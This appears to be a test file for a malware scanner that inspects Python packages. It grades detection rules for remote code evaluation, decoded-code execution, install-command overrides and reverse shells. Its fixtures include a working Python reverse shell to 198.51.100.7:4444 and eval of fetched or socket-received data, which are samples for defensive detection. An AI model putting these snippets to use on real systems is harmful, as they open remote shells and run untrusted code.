/** Where honest programs do nearly the same, a rule is told to doubt: each doubt beside the text that leaves none. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { examine } from '../../src/engine/examine.ts';
import { Budget } from '../../src/kit/budget.ts';
import { forgeSdist } from '../forge/forge.ts';

/** `severity confidence` of a rule's first finding about a package with one file; undefined where it finds nothing. */
function found(rule: string, path: string, text: string): string | undefined {
  const report = examine({ target: 'x', name: 'x-1.0.tar.gz', bytes: forgeSdist('x', '1.0', { [path]: text }) }, { budget: new Budget() });
  const finding = report.findings.find((each) => each.rule === rule);
  return finding && `${finding.severity} ${finding.confidence}`;
}

const ANSWERED = 'class Kernel:\n    def ask(self):\n        reply = self.session.recv(self.socket, mode=0)\n        return eval(reply["result"])\n';
const FETCHED = 'import requests\ndef ask():\n    return eval(requests.get("https://files.example/x").text)\n';

test('an answer without an address is doubted where somebody has to call for it', () => {
  assert.equal(found('remote-code-evaluated', 'x/__init__.py', ANSWERED), 'critical medium');
  assert.equal(found('remote-code-evaluated', 'x/__init__.py', FETCHED), 'critical high');
  assert.equal(found('remote-code-evaluated', 'x/__init__.py', 'import socket\ns = socket.socket()\neval(s.recv(99))\n'), 'critical high');
});

test('a compiled file that a runner is given is doubted, decoded text of a file that the caller names less', () => {
  assert.equal(found('decoded-code-evaluated', 'x/__init__.py', 'import marshal\ndef run(path):\n    with open(path, "rb") as file:\n        file.read(16)\n        exec(marshal.load(file))\n'), 'high low');
  assert.equal(found('decoded-code-evaluated', 'x/__init__.py', 'import base64\ndef run(path):\n    exec(base64.b64decode(open(path, "rb").read()))\n'), 'high medium');
});

test('a text that stands there to be read is only noted, unless it reaches out', () => {
  const text = 'def greet(name):\\n    print(name)\\n\\n\\ngreet("from a text that is evaluated")';
  assert.equal(found('computed-code-evaluated', 'x/__init__.py', `exec('${text}')\n`), 'note medium');
  assert.equal(found('computed-code-evaluated', 'x/__init__.py', `exec('import subprocess\\n${text}')\n`), 'medium medium');
});

test('a library that wraps setup() replaces no command of its own installation', () => {
  const wrapped = 'from setuptools import setup as old_setup\nfrom setuptools.command.build_py import build_py\nimport subprocess\nclass Build(build_py):\n    def run(self):\n        subprocess.check_output(["cygpath", "-w", "/"])\ndef setup(**attributes):\n    return old_setup(cmdclass={"build_py": Build}, **attributes)\n';
  assert.equal(found('install-command-override', 'x/distutils/core.py', wrapped), undefined);
  assert.equal(found('command-at-install', 'x/distutils/core.py', wrapped), undefined);
  assert.equal(found('install-command-override', 'setup.py', `${wrapped}setup(name="x")\n`), 'low high');
  assert.notEqual(found('command-at-install', 'setup.py', `${wrapped}setup(name="x")\n`), undefined);
});

test('a shell, a pipe and a connection far apart in a bundle are no shell that is handed over', () => {
  const connect = 'import socket, os, subprocess\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))\n';
  const hand = 'os.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n';
  assert.equal(found('reverse-shell', 'x/__init__.py', connect + hand), 'critical high');
  assert.equal(found('reverse-shell', 'x/__init__.py', `${connect}${'x = 1\n'.repeat(2000)}${hand}`), undefined);
});
